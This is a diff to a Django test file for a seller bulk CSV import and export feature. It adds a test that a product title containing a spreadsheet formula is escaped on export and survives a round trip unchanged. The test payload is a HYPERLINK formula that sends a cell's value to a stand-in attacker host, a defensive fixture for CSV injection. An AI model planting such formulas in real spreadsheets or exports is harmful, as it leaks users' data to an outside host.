@@ -446,3 +446,19 @@ def test_checking_a_file_costs_the_same_queries_for_one_row_or_ten(seller, coop)
 
     refused(1)
     assert refused(10) == refused(1)
+
+
+def test_a_formula_in_a_title_leaves_as_text_and_comes_back_unchanged(seller, coop):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
+    response = post(
+        seller, HEADER + "\n" + f',,,"{formula.replace(chr(34), chr(34) * 2)}",,I.1.a,120000,3,,\n'
+    )
+    assert response.status_code == 302, errors_of(response)
+    product = Product.objects.get(producer=coop, title=formula)
+    exported = seller.get(reverse("seller:bulk-export")).content.decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == str(product.pk))
+    assert row["title"] == "'" + formula  # Excel shows it as text, runs nothing
+    # Importing the exported file back changes nothing.
+    assert post(seller, exported).status_code == 302
+    product.refresh_from_db()
+    assert product.title == formula
